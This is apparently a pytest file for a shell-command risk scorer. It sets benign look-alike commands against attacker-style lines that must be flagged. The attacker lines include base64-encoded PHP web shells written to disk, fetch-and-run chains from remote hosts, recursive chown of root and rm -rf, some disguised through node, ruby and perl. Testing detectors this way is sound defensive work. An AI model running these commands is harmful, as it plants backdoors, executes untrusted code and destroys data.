"""Lines as attackers write them, beside those that look alike and are nobody's attack."""

from __future__ import annotations

import pytest

from shellguard.effects.derive import effects_of
from shellguard.parsing.reading import read
from shellguard.risk.weigh import weigh

ASKED = 51

RUNS = [
    # what is decoded into a file
    "echo aGVsbG8= | base64 -d > x.txt",
    "printf 'a\\tb\\n' > x.tsv",
    "printf '%%d\\n' > fmt",
    "base64 -d <<< aGVsbG8= | tee greeting",
    "echo PD9waHAgcGhwaW5mbygpOz8+ | base64 -d > info.php",
    # what is fetched by lines that a program is fed
    "printf 'get x\\nbye\\n' | ftp -n example.org; ls x",
    "sftp me@example.org <<< 'ls'",
    # programs and texts that are found or spelt on the line
    "$(ls /usr/bin/cat) notes.txt",
    "$(find . -name run.sh) start",
    "mkdir -p build && cd $_",
    "ls -d src; du -sh $_",
    'node -e \'console.log("a b".split(" ").join("-"))\'',
    "node -e 'console.log(String.fromCharCode(72,105,33))'",
    "ruby -e 'puts [72,105,33].pack(\"c*\")'",
    "perl -e 'open(F,\"git log; ls|\");print <F>'",
    "direnv exec . make",
    "ls *.c | entr -c make",
    "wget -P /tmp https://example.org/a.tgz && tar xzf /tmp/a.tgz -C /tmp && ls /tmp/a",
    "wget -P /tmp http://192.168.1.4/a.tgz && tar xzf /tmp/a.tgz -C /tmp && ls /tmp/a",
    # what is only asked about
    "chisel --version",
    "pgrep -af xmrig",
    "pgrep -f kinsing",
]
ASKS = [
    "echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg== | base64 -d > a.php",
    "base64 -d <<< PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg== | sudo tee a.php",
    "printf '\\x3c?php system($_GET[0]);?>' > a.php",
    "ftp -n example.org <<< $'get x\\nbye' && chmod +x x && ./x",
    "printf 'get /pub/x y\\nbye\\n' | ftp -n example.org; sh y",
    "svn export http://203.0.113.5/x /tmp/x && /tmp/x/run.sh",
    "./chisel --version",
    "wget -P /tmp http://203.0.113.4/a.tgz && tar xzf /tmp/a.tgz -C /tmp && /tmp/a/run",
    "$(ls /usr/bin/chown) -R root:root /",
    "$(find /usr/bin -name chown) -R root:root /",
    "$(readlink -f /bin/chown) -R root:root /",
    ": /; chown -R user:group $_",
    "ls -d /etc; rm -rf $_",
    "[() { rm -rf ~; }; [ -f x ]",
    'node -e \'require("child_process").execSync("rm -rf X".replace("X","~"))\'',
    "ruby -e 'system([114,109,32,45,114,102,32,126].pack(\"c*\"))'",
    "perl -e 'open(F,\"chown -R root:root /; ls|\");print <F>'",
    "direnv exec . sh -c 'chown -R root:root /'",
    "watchman-make -p '*' --run 'chown -R root:root /'",
]


def _score(line: str) -> int:
    script = read(line)
    return weigh(script, effects_of(script)).score


@pytest.mark.parametrize("line", RUNS)
def test_lines_that_look_alike_run(line: str) -> None:
    assert _score(line) < ASKED


@pytest.mark.parametrize("line", ASKS)
def test_lines_of_attackers_are_asked_about(line: str) -> None:
    assert _score(line) >= ASKED
